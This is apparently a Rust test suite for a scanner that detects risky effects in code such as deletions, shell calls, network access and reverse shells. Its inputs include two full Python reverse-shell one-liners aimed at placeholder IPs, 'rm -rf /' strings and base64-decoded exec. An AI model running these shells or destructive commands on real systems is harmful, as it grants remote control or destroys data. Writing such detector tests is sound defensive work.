use proptest::prelude::*;

use super::Effect::{Delete, Dynamic, Exec, Network, Read, ReverseShell, Shell, Write};
use super::Language::{JavaScript, Perl, Php, Python, Ruby};
use super::{Effect, Language, scan};

fn s(text: &str) -> Option<String> {
    Some(text.to_owned())
}

fn argv(words: &[&str]) -> Effect {
    Exec(Some(words.iter().map(|word| (*word).to_owned()).collect()))
}

fn dynamic(reason: &str) -> Effect {
    Dynamic(reason.to_owned())
}

const BUILT: &str = "runs code built at run time";

mod other_languages;

// Python

#[test]
fn python_without_effects() {
    assert_eq!(scan("print(1)", Python), vec![]);
    assert_eq!(
        scan(
            "import json, math\nprint(json.dumps({'a': math.pi}))",
            Python
        ),
        vec![]
    );
}

#[test]
fn python_strings_and_comments_are_inert() {
    let code = r#"print("os.system('rm -rf /')")
# shutil.rmtree('/')
doc = """os.remove('a')
subprocess.run(['rm', '-rf', '/'])"""
raw = r'os.unlink("b")'
"#;
    assert_eq!(scan(code, Python), vec![]);
}

#[test]
fn python_deletes() {
    let code = "import os, shutil as sh\nos.remove('/tmp/x')\nsh.rmtree(\"build\")\nos.rmdir(path)";
    assert_eq!(
        scan(code, Python),
        vec![Delete(s("/tmp/x")), Delete(s("build")), Delete(None)]
    );
}

#[test]
fn python_list_remove_is_not_a_delete() {
    assert_eq!(
        scan("xs = [1, 2]\nxs.remove(1)\nd.pop('k')", Python),
        vec![]
    );
}

#[test]
fn python_pathlib() {
    let code = "from pathlib import Path\nPath('x.txt').unlink()\nPath(p).rmdir()\nPath('out').write_text('hi')";
    assert_eq!(
        scan(code, Python),
        vec![Delete(s("x.txt")), Delete(None), Write(s("out"))]
    );
}

#[test]
fn python_open_modes() {
    let code = "open('a')\nopen('b', 'w')\nopen('c', mode='a')\nwith open(p, 'rb') as f:\n    pass";
    assert_eq!(
        scan(code, Python),
        vec![Read(s("a")), Write(s("b")), Write(s("c")), Read(None)]
    );
}

#[test]
fn python_shell_commands() {
    let code = "import os\nos.system('ls -la')\nos.system('rm ' + path)\nos.popen(f'cat {name}')\nos.system('a' 'b')";
    assert_eq!(
        scan(code, Python),
        vec![Shell(s("ls -la")), Shell(None), Shell(None), Shell(s("ab"))]
    );
}

#[test]
fn python_subprocess() {
    let code = r#"import subprocess
subprocess.run(["rm", "-rf", "x"], check=True)
subprocess.check_output("git status", shell=True)
subprocess.Popen(cmd)
subprocess.call(["ls", d])"#;
    let expected = vec![
        argv(&["rm", "-rf", "x"]),
        Shell(s("git status")),
        Exec(None),
        Exec(None),
    ];
    assert_eq!(scan(code, Python), expected);
}

#[test]
fn python_imports_and_aliases() {
    let code = "from subprocess import call as c\nc(['ls'])\nfrom os import *\nsystem('id')\nimport os.path as p\nr = os.remove\nr('z')";
    assert_eq!(
        scan(code, Python),
        vec![argv(&["ls"]), Shell(s("id")), Delete(s("z"))]
    );
}

#[test]
fn python_exec_family() {
    let code = "import os\nos.execvp('sh', ['sh', '-c', 'id'])\nos.execl('/bin/ls', 'ls', '-l')\nos.spawnv(os.P_WAIT, '/bin/true', ['true'])";
    let expected = vec![
        argv(&["sh", "-c", "id"]),
        argv(&["/bin/ls", "-l"]),
        argv(&["/bin/true"]),
    ];
    assert_eq!(scan(code, Python), expected);
}

#[test]
fn python_network() {
    let code = "import requests, urllib.request\nrequests.get('https://example.com/x')\nurllib.request.urlopen(url)\nfrom urllib.request import urlopen\nurlopen('http://h.example/')";
    let expected = vec![
        Network(s("https://example.com/x")),
        Network(None),
        Network(s("http://h.example/")),
    ];
    assert_eq!(scan(code, Python), expected);
}

#[test]
fn python_database_connect_is_not_a_socket() {
    assert_eq!(
        scan("import sqlite3\nsqlite3.connect('db.sqlite')", Python),
        vec![]
    );
}

#[test]
fn python_literal_code_is_followed() {
    assert_eq!(
        scan("exec(\"import os; os.remove('a')\")", Python),
        vec![Delete(s("a"))]
    );
    assert_eq!(scan("eval(code)", Python), vec![dynamic(BUILT)]);
    assert_eq!(
        scan("__import__('os').system('id')", Python),
        vec![Shell(s("id"))]
    );
    assert_eq!(
        scan("__import__(name)", Python),
        vec![dynamic("imports a module named at run time")]
    );
    assert_eq!(
        scan("getattr(os, 'system')('id')", Python),
        vec![Shell(s("id"))]
    );
    assert_eq!(
        scan("getattr(os, name)('id')", Python),
        vec![dynamic("getattr with a computed name")]
    );
}

#[test]
fn python_decoded_code() {
    let code = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))";
    assert_eq!(
        scan(code, Python),
        vec![dynamic(BUILT), dynamic("runs decoded code")]
    );
}

#[test]
fn python_escapes_are_decoded() {
    assert_eq!(
        scan(r#"import os; os.system("echo \x72\x6d\t'q'\\")"#, Python),
        vec![Shell(s("echo rm\t'q'\\"))]
    );
}

#[test]
fn python_reverse_shells() {
    let classic = r#"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);"#;
    let expected = vec![
        Network(s("10.0.0.1:1234")),
        argv(&["/bin/sh", "-i"]),
        ReverseShell,
    ];
    assert_eq!(scan(classic, Python), expected);
    let pty = r#"import socket,os,pty;s=socket.socket();s.connect(("1.2.3.4",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")"#;
    assert_eq!(
        scan(pty, Python),
        vec![
            Network(s("1.2.3.4:4444")),
            argv(&["/bin/bash"]),
            ReverseShell
        ]
    );
}

#[test]
fn python_multi_line_script() {
    let code = r#"#!/usr/bin/env python3
import os
import shutil


def clean(path):
    """Remove the build directory."""
    if os.path.exists(path):
        shutil.rmtree(path)  # computed


@decorator
def main():
    clean("build")
    with open("log.txt", "a") as log:
        log.write("done\n")


main()
"#;
    assert_eq!(scan(code, Python), vec![Delete(None), Write(s("log.txt"))]);
}

#[test]
fn python_interpolated_code_is_scanned() {
    assert_eq!(
        scan("print(f\"{os.system('id')}\")", Python),
        vec![Shell(s("id"))]
    );
    let spec = "print(f'{x!r:>10} {{literal}}')";
    assert_eq!(scan(spec, Python), vec![]);
}

#[test]
fn python_common_code_is_not_flagged() {
    let code = "import pandas as pd\ndf = pd.read_csv('a.csv')\ndf.rename(columns={'a': 'b'})\nre.compile('x')\ntext.replace('a', 'b')";
    assert_eq!(scan(code, Python), vec![]);
}

#[test]
fn python_metadata_and_directories_are_writes() {
    let code = "import os\nos.open('f', os.O_RDONLY)\nos.makedirs('build', exist_ok=True)\nos.chmod('run.sh', 0o755)\nos.symlink('target', 'link')";
    let expected = vec![
        Read(s("f")),
        Write(s("build")),
        Write(s("run.sh")),
        Write(s("link")),
    ];
    assert_eq!(scan(code, Python), expected);
}

#[test]
fn python_http_sessions() {
    let code = "import requests\nr = requests.Session()\nr.get('https://x.example')\nrequests.post(url='https://y.example', json=d)";
    let expected = vec![
        Network(None),
        Network(s("https://x.example")),
        Network(s("https://y.example")),
    ];
    assert_eq!(scan(code, Python), expected);
}

// Limits

#[test]
fn too_large_is_dynamic() {
    let code = "x".repeat(super::MAX_CODE + 1);
    assert_eq!(scan(&code, Python), vec![dynamic("too large")]);
}

#[test]
fn too_many_effects_end_in_dynamic() {
    let effects = scan(&"os.remove('x')\n".repeat(2_000), Python);
    assert_eq!(effects.len(), super::MAX_EFFECTS);
    assert_eq!(effects.last(), Some(&dynamic("too many effects to list")));
}

#[test]
fn too_many_calls_end_in_dynamic() {
    let effects = scan(&"f(".repeat(super::MAX_CALLS + 10), JavaScript);
    assert_eq!(effects, vec![dynamic("too many calls to follow")]);
}

#[test]
fn pathological_inputs_finish() {
    let inputs = [
        "(".repeat(20_000),
        "f(".repeat(20_000),
        "system ".repeat(5_000),
        "/(".repeat(10_000),
        "a.".repeat(10_000),
        "<<A ".repeat(5_000),
        "eval(\"".repeat(2_000),
        format!("\"{}", "\\".repeat(10_001)),
    ];
    for language in [Python, JavaScript, Perl, Ruby, Php] {
        for input in &inputs {
            let effects = scan(input, language);
            assert!(effects.len() <= super::MAX_EFFECTS + 2);
        }
    }
}

fn languages() -> impl Strategy<Value = Language> {
    prop_oneof![
        Just(Python),
        Just(JavaScript),
        Just(Perl),
        Just(Ruby),
        Just(Php)
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn never_panics_on_arbitrary_text(code in ".{0,300}", language in languages()) {
        scan(&code, language);
    }

    #[test]
    fn never_panics_on_code_like_text(
        code in r#"([a-z_$@%:.]{1,6}|[ \n(){}\[\];,=+<>|&!?~*/\\#'"`-]|<<~?EOF|q[qwx]?\{|%[wx]\[|f'\{|\$\{|#\{|0x41|\\x4){0,80}"#,
        language in languages(),
    ) {
        scan(&code, language);
    }
}
